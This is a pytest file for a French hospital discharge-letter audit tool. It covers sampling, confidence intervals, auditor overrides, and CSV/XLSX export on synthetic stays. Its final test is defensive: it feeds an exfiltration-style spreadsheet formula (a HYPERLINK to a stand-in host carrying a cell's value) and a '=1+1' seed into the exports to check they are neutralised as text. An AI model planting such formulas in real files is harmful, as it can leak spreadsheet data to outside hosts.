"""Establishment audit: sample, rate and class, overrides, full picture, JSON, CSV and XLSX."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import openpyxl
import pytest

from liaison.demo.synthetic.letters import complete_letter, paris
from liaison.quality.audit import AuditRecord, Override, apply_overrides, run_audit
from liaison.quality.evaluate import evaluate
from liaison.quality.export import audit_to_csv, write_audit_csv, write_audit_xlsx
from liaison.quality.grid import load_grid
from liaison.quality.rules import Result
from liaison.quality.sampling import StayRecord
from liaison.quality.stats import wilson

V2 = load_grid("qls/mco/v2-2022")


def hospital(n: int = 300, bad_every: int = 4) -> list[AuditRecord]:
    """n MCO stays; every `bad_every`-th letter was not handed over; 10 deaths and 10 short stays."""
    records = []
    for i in range(n):
        discharge = paris(2024, 5, 1, 10) + dt.timedelta(hours=7 * i)
        content, facts = complete_letter(discharge)
        hours, exit_mode = 96.0, "domicile"
        if i % bad_every == 0:
            facts.handed_over_at = None
        if i >= n - 10:
            exit_mode = "deces"
        elif i >= n - 20:
            hours = 12.0
        stay = StayRecord(f"S{i:04d}", "MCO", discharge - dt.timedelta(hours=hours), discharge, exit_mode)
        records.append(AuditRecord(stay, content, facts))
    return records


@pytest.fixture(scope="module")
def audit_dict() -> dict:
    return run_audit(V2, hospital(), seed="QLS-2024").as_dict()


def test_sample_rate_ci_and_class(audit_dict: dict) -> None:
    a = audit_dict
    assert a["grid"]["id"] == "qls/mco/v2-2022" and len(a["grid"]["sha256"]) == 64
    assert a["population"] == {"eligible": 280, "excluded": 20}
    assert len(a["sample"]) == 80 == a["n"]
    k = sum(r["compliant"] for r in a["sample"])
    # every record is compliant except those not handed over
    assert k == sum(r["criteria"]["handed_over_same_day"] == "met" for r in a["sample"])
    assert a["compliant"] == k and a["rate"] == k / 80
    assert a["ci95"] == pytest.approx(list(wilson(k, 80)))
    assert a["class"] == ("A" if a["ci95"][0] > 0.8 else "C" if a["ci95"][1] < 0.8 else "B")
    assert a["score_v1"]["n"] == 80


def test_full_picture_and_sampling_error(audit_dict: dict) -> None:
    full = audit_dict["full"]
    assert full["n"] == 280
    assert full["k"] == 280 - 70  # one in four of S0000..S0279 not handed over
    err = audit_dict["sampling_error"]
    assert err["full_ci_width"] < err["sample_ci_width"]
    assert err["width_removed"] == pytest.approx(err["sample_ci_width"] - err["full_ci_width"])
    assert err["sample_minus_full"] == pytest.approx(audit_dict["rate"] - 0.75)


def test_national_priorities_and_criterion_rates(audit_dict: dict) -> None:
    prio = audit_dict["national_priorities"]
    assert set(prio) == {"handed_over_same_day", "drug_treatment", "care_planning"}
    handed = prio["handed_over_same_day"]
    assert handed["met"] + handed["not_met"] == 80 and handed["rate"] == audit_dict["rate"]
    assert audit_dict["criteria"]["drug_treatment"]["rate"] == 1.0


def test_output_is_json_and_matches_the_documented_shape(audit_dict: dict) -> None:
    again = json.loads(json.dumps(audit_dict))
    record = again["sample"][0]
    assert set(record["criteria"]) == {i.id for i in V2.items}
    assert set(record["criteria"].values()) <= {"met", "not_met", "not_applicable"}
    assert {"stay", "criteria", "compliant", "automatic", "overrides"} <= set(record)
    assert {"grid", "sample", "rate", "ci95", "class", "score_v1", "criteria", "full"} <= set(again)


def test_same_seed_same_audit() -> None:
    a = run_audit(V2, hospital(), seed=42).as_dict()
    b = run_audit(V2, list(reversed(hospital())), seed=42).as_dict()
    assert a["draw"] == b["draw"] and a["rate"] == b["rate"]


def test_overrides_are_kept_apart_from_the_automatic_result() -> None:
    records = hospital()
    first = run_audit(V2, records, seed="s")
    target = next(r for r in first.sample if not r.final.compliant)
    override = {
        "handed_over_same_day": Override(Result.MET, "remise tracée sur le dossier papier", "Qualité")
    }
    audit = run_audit(V2, records, seed="s", overrides={target.stay_id: override})
    rec = next(r for r in audit.sample if r.stay_id == target.stay_id)
    assert rec.final.compliant and not rec.automatic.compliant
    out = rec.as_dict()
    assert out["criteria"]["handed_over_same_day"] == "met"
    assert out["automatic"]["criteria"]["handed_over_same_day"] == "not_met"
    assert out["overrides"] == [
        {
            "criterion": "handed_over_same_day",
            "automatic": "not_met",
            "final": "met",
            "reason": "remise tracée sur le dossier papier",
            "by": "Qualité",
        }
    ]
    d = audit.as_dict()
    assert d["compliant"] == first.as_dict()["compliant"] + 1
    assert d["automatic"]["rate"] == first.as_dict()["rate"] and d["automatic"]["overridden_records"] == 1


def test_override_to_not_met_and_bad_overrides() -> None:
    content, facts = complete_letter()
    auto = evaluate(content, facts, V2)
    reviewed = apply_overrides(V2, auto, {"care_planning": Override(Result.NOT_MET, "RDV illisible")})
    assert not reviewed.final.compliant and auto.compliant
    assert reviewed.final["care_planning"].explanation == "Correction de l'auditeur : RDV illisible"
    with pytest.raises(ValueError, match="motif"):
        apply_overrides(V2, auto, {"care_planning": Override(Result.MET, "")})
    with pytest.raises(ValueError, match="inconnu"):
        apply_overrides(V2, auto, {"emergency_contact": Override(Result.MET, "x")})
    with pytest.raises(ValueError, match="hors population"):
        run_audit(V2, hospital(), seed=1, overrides={"S0299": {"care_planning": Override(Result.MET, "x")}})


def test_frozen_draw_is_reused_and_population_change_detected() -> None:
    records = hospital()
    audit = run_audit(V2, records, seed=5)
    draw = audit.draw.replace_from_reserve(audit.draw.sample[0], "hors champ après relecture")
    again = run_audit(V2, records, seed=5, draw=draw)
    assert [r.stay_id for r in again.sample] == list(draw.sample)
    with pytest.raises(ValueError, match="population"):
        run_audit(V2, records[1:], seed=5, draw=draw)


def test_fewer_stays_than_the_sample_size() -> None:
    a = run_audit(V2, hospital(n=60), seed=1).as_dict()
    assert a["n"] == 40 == a["full"]["n"]  # 60 stays minus 10 deaths and 10 short stays
    assert a["sampling_error"]["width_removed"] == 0


def test_csv_and_xlsx_export(tmp_path: Path) -> None:
    audit = run_audit(V2, hospital(), seed="QLS-2024")
    text = audit_to_csv(audit)
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header = rows[0]
    assert header[0] == "Séjour" and header[1] == "1. Lettre de liaison retrouvée dans le dossier"
    assert len(header) == 1 + len(V2.items) + 3
    body = rows[1:81]
    assert [r[0] for r in body] == list(audit.draw.sample)
    column = header.index("2. Lettre remise au patient le jour de sa sortie")
    assert {r[column] for r in body} == {"oui", "non"}
    assert all(r[header.index("Conforme")] == ("oui" if r[column] == "oui" else "non") for r in body)
    path = write_audit_csv(audit, tmp_path / "audit.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")

    xlsx = write_audit_xlsx(audit, tmp_path / "audit.xlsx")
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == ["Grille d'audit", "Critères", "Synthèse"]
    ws = wb["Grille d'audit"]
    assert ws.max_row == 81 and ws.cell(1, column + 1).value == header[column]
    not_met = next(
        c for c in ws.iter_rows(min_row=2, min_col=column + 1, max_col=column + 1) if c[0].value == "non"
    )
    assert "Remise de la lettre au patient le jour de la sortie non tracée" in not_met[0].comment.text
    summary = {row[0]: row[1] for row in wb["Synthèse"].iter_rows(values_only=True)}
    assert summary["Dossiers évalués"] == 80 and summary["Classe"] == audit.rate.cls


def test_exports_never_carry_a_live_formula(tmp_path: Path) -> None:
    """Formula injection: an auditor's reason, its name or the seed typed as a formula stays text."""
    records = hospital()
    first = run_audit(V2, records, seed="=1+1")
    target = next(r for r in first.sample if not r.final.compliant)
    reason = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Voir")'
    override = {"handed_over_same_day": Override(Result.MET, reason, "@qualite")}
    audit = run_audit(V2, records, seed="=1+1", overrides={target.stay_id: override})
    rows = list(csv.reader(io.StringIO(audit_to_csv(audit)), delimiter=";"))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(reason in c for c in cells)  # kept, inside the notes cell, as text
    assert next(r[:2] for r in rows if r and r[0] == "Graine du tirage") == ["Graine du tirage", "'=1+1"]

    wb = openpyxl.load_workbook(write_audit_xlsx(audit, tmp_path / "audit.xlsx"))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    seeds = [r[1].value for r in wb["Synthèse"].iter_rows() if r[0].value == "Graine du tirage"]
    assert seeds == ["'=1+1"]
